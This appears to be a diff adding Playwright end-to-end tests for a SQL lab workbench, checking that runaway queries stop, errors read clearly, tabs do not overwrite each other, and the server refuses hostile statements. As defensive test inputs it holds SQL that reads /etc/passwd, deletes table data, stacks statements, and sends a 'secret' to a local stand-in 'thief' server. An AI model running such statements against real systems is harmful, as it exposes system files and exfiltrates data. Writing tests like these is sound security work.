@@ -1,0 +1,111 @@
+import { createServer } from 'node:http';
+import type { Page } from '@playwright/test';
+import { messages } from '../../app/features/labs/messages';
+import { textOf } from '../../app/i18n/messages';
+import { signInAs } from './newcomer';
+import { expect, hydrated, test } from './portal';
+
+const t = textOf(messages, 'zh-CN');
+
+async function openLab(page: Page, slug: string): Promise<void> {
+  await page.goto(`/labs/${slug}`);
+  await hydrated(page);
+  await expect(page.getByText(t.engineReady).first()).toBeVisible({ timeout: 60_000 });
+}
+
+async function runQuery(page: Page, sql: string): Promise<void> {
+  await page.locator('.cm-content').click();
+  await page.keyboard.press('ControlOrMeta+a');
+  await page.keyboard.insertText(sql);
+  await page.keyboard.press('ControlOrMeta+Enter');
+}
+
+const output = (page: Page) =>
+  page
+    .getByRole('region', { name: t.paneOutput })
+    .or(page.getByRole('region', { name: t.resultRegion }))
+    .last();
+
+test.describe('the workbench', () => {
+  test.beforeEach(async ({ page }) => {
+    test.setTimeout(120_000);
+    await signInAs(page, 'learner');
+  });
+
+  test('a runaway query can be stopped, the page lives, and the next query works', async ({ page }) => {
+    await openLab(page, 'quiet-cities');
+    await runQuery(page, 'SELECT count(*) FROM order_items a, order_items b, order_items c WHERE a.quantity + b.quantity > c.quantity');
+    const stop = page.getByRole('button', { name: t.stop });
+    await expect(stop).toBeVisible();
+    await stop.click();
+    await expect(page.getByText(t.stopped, { exact: false }).first()).toBeVisible({ timeout: 15_000 });
+    await runQuery(page, 'SELECT count(*) AS members_in_all FROM members');
+    await expect(page.getByText('members_in_all').last()).toBeVisible({ timeout: 30_000 });
+    await expect(output(page)).toContainText(/2,?400/);
+  });
+
+  test('a mistake is told in plain words, with the name that was meant, and keeps the engine’s own words', async ({ page }) => {
+    await openLab(page, 'quiet-cities');
+    await runQuery(page, 'SELECT paid_amout FROM orders');
+    await expect(page.getByText(t.noColumn('paid_amout'))).toBeVisible();
+    await expect(page.getByText(t.didYouMean('paid_amount'))).toBeVisible();
+    await page.getByText(t.engineWords).click();
+    await expect(page.getByText(/Binder Error/).first()).toBeVisible();
+  });
+
+  test('two tabs never overwrite each other silently', async ({ page, context, complaints }) => {
+    await openLab(page, 'buyers-by-channel');
+    const other = await context.newPage();
+    complaints.listenTo(other);
+    await openLab(other, 'buyers-by-channel');
+    await other.evaluate(() => localStorage.clear());
+    await runQuery(page, "SELECT 'first tab' AS mine");
+    await expect(page.getByText(/已保存到服务器/)).toBeVisible({ timeout: 15_000 });
+    await runQuery(other, "SELECT 'second tab' AS mine");
+    const both = other.getByRole('alert', { name: t.conflictTitle }).or(other.getByText(t.followsOtherTab)).first();
+    await expect(both).toBeVisible({ timeout: 15_000 });
+  });
+
+  test('a statement that is no query is refused on the server, and stored first all the same', async ({ page }) => {
+    const statements = ['DELETE FROM orders', 'SELECT 1; SELECT 2', '', "SELECT * FROM read_csv('/etc/passwd')", 'PRAGMA database_list'];
+    for (const sql of statements) {
+      const id = crypto.randomUUID();
+      const answer = await page.request.post('/labs/quiet-cities/submissions', { data: { id, sql } });
+      const said = await answer.text();
+      expect(said, sql).not.toContain('"accepted":true');
+      expect(said, sql).not.toContain('root:');
+      expect([200, 422], sql).toContain(answer.status());
+      if (sql === '') continue;
+      const list = await page.request.get('/labs/quiet-cities/submissions');
+      expect(await list.text(), `${sql} is stored`).toContain(id);
+    }
+  });
+
+  test('an endless query on the server ends at the deadline and is told as such', async ({ page }) => {
+    const sql = 'SELECT count(*) FROM order_items a, order_items b, order_items c, order_items d';
+    const answer = await page.request.post('/labs/quiet-cities/submissions', { data: { id: crypto.randomUUID(), sql }, timeout: 60_000 });
+    expect(await answer.text()).toMatch(/timeout|queued/);
+    expect((await page.request.get('/healthz')).ok()).toBe(true);
+  });
+
+  test('SQL in a lab cannot send anything to another machine', async ({ page, complaints }) => {
+    const heard: string[] = [];
+    const thief = createServer((request, response) => {
+      heard.push(request.url ?? '');
+      response.setHeader('Access-Control-Allow-Origin', '*').end('a\n1\n');
+    });
+    await new Promise<void>(resolve => thief.listen(0, '127.0.0.1', resolve));
+    const address = thief.address();
+    const port = typeof address === 'object' && address ? address.port : 0;
+    await page.goto('/playground');
+    await hydrated(page);
+    await expect(page.getByText(t.engineReady).first()).toBeVisible({ timeout: 60_000 });
+    await runQuery(page, `SELECT * FROM read_csv('http://127.0.0.1:${port}/steal.csv?secret=42')`);
+    await expect(page.getByRole('alert').or(page.getByText(t.cannotRun)).or(page.getByText(t.engineWords)).first()).toBeVisible({
+      timeout: 30_000,
+    });
+    thief.close();
+    expect(heard).toEqual([]);
+    complaints.forgive(/Content Security Policy|Failed to load resource|NetworkError|XMLHttpRequest/);
+  });
+});
